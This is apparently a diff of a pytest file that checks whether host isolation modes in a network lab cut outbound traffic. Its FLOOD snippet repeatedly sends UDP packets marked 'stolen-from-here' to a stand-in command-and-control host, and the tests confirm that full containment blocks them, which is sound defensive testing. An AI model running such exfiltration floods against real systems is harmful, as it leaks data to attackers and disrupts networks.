@@ -6,8 +6,8 @@
 
 from __future__ import annotations
 
+import contextlib
 import subprocess
-import threading
 import time
 
 import pytest
@@ -17,7 +17,7 @@ from tests.lab.controller import adhoc, seen
 from tests.lab.machine import inside
 
 from . import matrix
-from .channels import heard
+from .channels import heard, listening
 from .conftest import clean
 
 OUT = ("tcp-ipv4", "udp-ipv6", "icmp-with-payload-ipv4", "neighbour-tcp")
@@ -34,15 +34,14 @@ try:
     while True: s.recv(99); count += 1; s.settimeout(0.5)
 except OSError: print(count)
 """
-# Twenty thousand packets a second to the attacker, refused or not.
+# Thousands of packets a second to the attacker, refused or not, until its input ends.
 FLOOD = f"""
-import socket, time
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); end = time.monotonic() + 6
-while time.monotonic() < end:
-    for _ in range(200):
+import select, socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+while not select.select([sys.stdin], [], [], 0.005)[0]:
+    for _ in range(50):
         try: s.sendto(b'stolen-from-here', ('{network.C2}', 8443))
         except OSError: pass
-    time.sleep(0.01)
 """
 
 
@@ -62,6 +61,16 @@ def comes_in(host: str) -> int:
         code = f"import socket; s = socket.socket(socket.AF_INET, 2); [s.sendto(b'order', ('{network.address(host)}', {PORT})) for _ in range(5)]"
         subprocess.run(inside("neighbour", ["python3", "-c", code]), check=True)
         return int(listener.stdout.readline())
+
+
+@contextlib.contextmanager
+def flood(host: str):
+    """A program of the host that sends to the attacker without a pause; the list holds at the end how much came out of the host."""
+    sender = subprocess.Popen(["nsenter", "-t", str(hosts.leader(host)), "-a", "--", "python3", "-c", FLOOD], stdin=subprocess.PIPE)
+    with sender, listening(host) as passed:
+        time.sleep(0.3)
+        yield passed
+        sender.communicate()
 
 
 def rules(host: str) -> str:
@@ -86,7 +95,9 @@ def test_observe_counts_egress_cuts_what_leaves_and_full_cuts_all(cell):
     began = time.time()
     assert [name for name in (*OUT, *FRAMES, *IN) if not (heard(host, name) or heard(host, name, 1.0))] == []
     assert comes_in(host) == 5
-    time.sleep(1)
+    with flood(host) as passed:
+        time.sleep(0.5)
+    assert passed[0] > 500, "the flood of below is none"
     assert seen("c2", began, network.address(host), "shell"), "what is observed must live on"
     again = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe").of(host)
     assert (again["verdict"], again["changed"]) == ("reported", False)
@@ -104,13 +115,8 @@ def test_observe_counts_egress_cuts_what_leaves_and_full_cuts_all(cell):
     assert hosts.answers("controller", network.address(host), 22) and hosts.answers("monitoring", network.address(host), 9100)
 
     # A change of mode opens nothing in between.
-    flood = subprocess.Popen(["nsenter", "-t", str(hosts.leader(host)), "-a", "--", "python3", "-c", FLOOD])
-    passed: list[int] = []
-    ear = threading.Thread(target=lambda: passed.append(heard(host, "", 6)))
-    with flood:
-        ear.start()
+    with flood(host) as passed:
         result = adhoc(host, "isolation", f"case=MODES backend={backend} mode=full").of(host)
-        ear.join()
     assert (result["verdict"], result["changed"], passed) == ("contained", True, [0]), result["reasons"]
     assert comes_in(host) == 0
     assert {name: count for name in (*OUT, *frames, *IN) if (count := heard(host, name))} == {}
